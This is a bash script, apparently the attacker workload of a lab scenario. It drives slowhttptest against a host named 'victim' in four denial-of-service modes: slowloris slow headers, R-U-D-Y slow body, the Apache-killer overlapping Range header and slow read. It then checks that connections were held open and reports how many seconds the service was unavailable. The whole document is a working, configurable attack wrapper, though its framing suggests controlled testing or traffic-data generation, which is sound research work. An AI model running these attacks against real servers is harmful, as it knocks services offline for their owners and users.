#!/bin/bash
# attack.sh - the workload of the `slowhttptest` scenario.
#
# Runs Debian's slowhttptest once against the victim's page, in the mode
# ATTACK_MODE names (one per subscenario):
#   headers  -H  slow headers (slowloris): requests whose header block never
#                ends, a further header line every SHT_INTERVAL seconds
#   body     -B  slow body (R-U-D-Y): complete headers announcing a large
#                Content-Length, then the body a few bytes every interval
#   range    -R  range header (Apache killer): requests with a Range header
#                of many overlapping ranges ("bytes=0-,a-1,a-2,...")
#   read     -X  slow read: complete requests (pipelined), then the response
#                is read a few bytes at a time through a tiny TCP window
# over TARGET_SCHEME (http or https) with the drawn connection count, rate,
# test length, intervals and sizes (SHT_* variables, below). slowhttptest
# also probes the server's availability with a normal request every second.
#
# Exit 0 when the attack played out as designed: slowhttptest exited 0,
# ended because its time ran out or because the victim closed every
# connection (its defences), and held connections open at some point (its
# statistics CSV); 1 otherwise, with slowhttptest's output on stderr.
set -euo pipefail

fail() {
    echo "attacker: FAILED ($MODE): $*" >&2
    [ -s "$OUT" ] && { echo "---- slowhttptest output ----" >&2; tail -n 60 "$OUT" >&2; }
    exit 1
}
MODE=${ATTACK_MODE:?ATTACK_MODE must be headers, body, range or read}
SCHEME=${TARGET_SCHEME:-http}
HOST=${TARGET_HOST:-victim}
URL_PATH=${TARGET_PATH:-/}
OUT=/tmp/slowhttptest.out
STATS=/tmp/stats
: >"$OUT"

case "$SCHEME" in http | https) ;; *) fail "TARGET_SCHEME must be http or https" ;; esac
url="$SCHEME://$HOST$URL_PATH"

args=(-c "${SHT_CONNECTIONS:?}" -r "${SHT_RATE:?}" -l "${SHT_LENGTH:?}" -p "${SHT_PROBE_TIMEOUT:-3}"
    -u "$url" -g -o "$STATS")
[ -n "${SHT_VERB:-}" ] && args+=(-t "$SHT_VERB")
case "$MODE" in
headers)
    args=(-H "${args[@]}" -i "${SHT_INTERVAL:?}" -x "${SHT_FOLLOW_MAX:?}")
    ;;
body)
    args=(-B "${args[@]}" -i "${SHT_INTERVAL:?}" -x "${SHT_FOLLOW_MAX:?}" -s "${SHT_CONTENT_LENGTH:?}")
    [ -n "${SHT_CONTENT_TYPE:-}" ] && args+=(-f "$SHT_CONTENT_TYPE")
    ;;
range)
    args=(-R "${args[@]}" -a "${SHT_RANGE_START:?}" -b "${SHT_RANGE_LIMIT:?}")
    ;;
read)
    [ "${SHT_WINDOW_END:?}" -gt "${SHT_WINDOW_START:?}" ] || fail "window end must exceed its start"
    args=(-X "${args[@]}" -w "$SHT_WINDOW_START" -y "$SHT_WINDOW_END" -n "${SHT_READ_INTERVAL:?}"
        -z "${SHT_READ_BYTES:?}" -k "${SHT_PIPELINE:?}")
    ;;
*) fail "unknown ATTACK_MODE '$MODE'" ;;
esac

echo "attacker: slowhttptest ${args[*]}"
rc=0
# A guard in case slowhttptest does not stop on its own.
timeout --signal=INT --kill-after=5 $((SHT_LENGTH + 15)) slowhttptest "${args[@]}" >"$OUT" 2>&1 || rc=$?
# Its output without colours, for the log and the checks below.
sed -i 's/\x1b\[[0-9;]*[A-Za-z]//g' "$OUT"
cat "$OUT"
[ "$rc" -eq 0 ] || fail "slowhttptest exited $rc"

status=$(sed -n 's/^Exit status:[[:space:]]*//p' "$OUT" | tail -n 1 | sed 's/[[:space:]]*$//')
case "$status" in
"Hit test time limit" | "No open connections left") ;;
"") fail "slowhttptest printed no exit status" ;;
*) fail "slowhttptest stopped with '$status'" ;;
esac
csv=$STATS.csv
[ -s "$csv" ] || fail "no statistics in $csv"
# Seconds,Closed,Pending,Connected,Service Available
max_connected=$(awk -F, 'NR > 1 && $4 + 0 > m { m = $4 + 0 } END { print m + 0 }' "$csv")
max_closed=$(awk -F, 'NR > 1 && $2 + 0 > m { m = $2 + 0 } END { print m + 0 }' "$csv")
unavailable=$(awk -F, 'NR > 1 && $5 ~ /^ *0/ { n++ } END { print n + 0 }' "$csv")
[ "$max_connected" -gt 0 ] || fail "no connection was ever held open"
echo "attacker: $MODE attack over $SCHEME done ($status): up to $max_connected connections held," \
    "$max_closed closed by the end, service unavailable in $unavailable of $(($(wc -l <"$csv") - 1)) seconds"
